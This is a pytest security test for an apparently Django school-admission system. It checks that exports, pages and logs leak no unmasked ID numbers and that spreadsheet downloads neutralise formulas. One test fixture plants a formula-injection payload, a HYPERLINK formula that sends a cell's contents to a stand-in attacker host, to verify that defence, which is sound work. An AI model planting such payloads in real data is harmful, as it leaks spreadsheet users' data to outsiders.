"""After an end-to-end run, no unmasked ID number anywhere but the school's own admitted list.

The run: three families submit and are verified, an officer runs and publishes the allocation,
parents, officers, schools and the steward open every page and API the resolver knows, the
operator exports decisions and the allocation, a parent downloads their data. Then every body,
file and log line is searched for any valid 18-character ID number. The admitted list (a
school's own download) must carry them, and none of its cells may start a formula.
"""

import csv
import io
import logging
import re
from datetime import date
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from enrollment.models import Role
from registry import idnumber
from registry.services.audit import audit_chain_first_break
from tests.conftest import HOME, YEAR
from tests.enrollment.factories import UserFactory
from tests.registry.factories import PropertyRecordFactory, related_family
from tests.security.conftest import CHILD, run_and_publish, submit_and_verify
from tests.security.test_access_matrix import QUERY, fill, url_patterns

pytestmark = pytest.mark.django_db

HOSTILE_CHILD = idnumber.make("440604", date(2020, 1, 9), 777)
HOSTILE_GUARDIAN = idnumber.make("440604", date(1989, 4, 4), 888)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
# Any 18 characters shaped like an ID number; a match counts only when its check digit holds.
ID_SHAPE = re.compile(r"(?<![0-9A-Za-z])\d{17}[\dXx](?![0-9A-Za-z])")
# The school's own admitted list is the one place that needs the numbers.
ADMITTED_LIST = {
    "staff:school-download-csv",
    "staff:school-download-xlsx",
    "api-school-admitted-csv",
    "api-school-admitted-xlsx",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def unmasked(text: str) -> set[str]:
    return {m.upper() for m in ID_SHAPE.findall(text) if idnumber.is_valid(m)}


def text_of(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content[:2] == b"PK":  # an XLSX workbook
        sheet = load_workbook(io.BytesIO(content)).active
        return "\n".join(
            "\t".join("" if cell is None else str(cell) for cell in row)
            for row in sheet.iter_rows(values_only=True)
        )
    return content.decode("utf-8", errors="replace")


def cells(text: str) -> list[str]:
    if "\t" in text.split("\n", 1)[0]:
        return [cell for line in text.splitlines() for cell in line.split("\t")]
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def allocated(world):
    """A third, hostile family; the allocation run and published."""
    related_family(
        HOSTILE_CHILD,
        HOSTILE_GUARDIAN,
        hukou_district_code="440604",
        registered_on=date(2020, 2, 1),
    )
    PropertyRecordFactory(
        owner_id_number=HOSTILE_GUARDIAN, share_percent=Decimal("100"), community_code=HOME
    )
    hostile = submit_and_verify(
        UserFactory(role=Role.PARENT, username="parent3", identity=HOSTILE_GUARDIAN),
        HOSTILE_CHILD,
        HOSTILE_GUARDIAN,
        HOSTILE_NAME,
        "@SUM(1+1)",
    )
    run_and_publish(world.officer, reason="publication for the scan")
    return hostile


def test_no_unmasked_id_number_outside_the_admitted_list(world, allocated, caplog, tmp_path):
    caplog.set_level(logging.DEBUG)
    findings: dict[str, set[str]] = {}
    admitted_texts = []
    users = {
        "anonymous": None,
        "parent": world.parent,
        "other_parent": world.other_parent,
        "school": world.school,
        "other_school": world.other_school,
        "officer": world.officer,
        "steward": world.steward,
    }
    pages = 0
    for role, user in users.items():
        client = Client()
        if user is not None:
            client.force_login(user)
        for route, name in url_patterns():
            if name == "admin:index":
                continue
            url = fill(route, world)
            response = client.get(url, QUERY)
            if response.status_code != 200:
                continue
            pages += 1
            text = text_of(response)
            if name in ADMITTED_LIST:
                admitted_texts.append((role, text))
                continue
            if found := unmasked(text):
                findings[f"{role} GET {url}"] = found

    for command in ("export_decisions", "export_allocation"):
        out = tmp_path / f"{command}.csv"
        call_command(command, "--year", str(YEAR), "--out", str(out))
        if found := unmasked(out.read_text(encoding="utf-8-sig")):
            findings[command] = found

    for record in caplog.records:
        if found := unmasked(record.getMessage()):
            findings[f"log {record.name}"] = found

    assert findings == {}
    assert pages > 20
    # the admitted list is where the numbers belong, and it neutralises formulas
    assert sorted(role for role, _ in admitted_texts) == ["other_school"] * 2 + ["school"] * 4
    for role, text in admitted_texts:
        assert [c for c in cells(text) if c.startswith(FORMULA_START)] == []
        if role == "school":
            assert unmasked(text) == {CHILD, HOSTILE_CHILD}
            assert "'" + HOSTILE_NAME in cells(text)
        else:
            assert unmasked(text) == set()
    assert audit_chain_first_break() is None
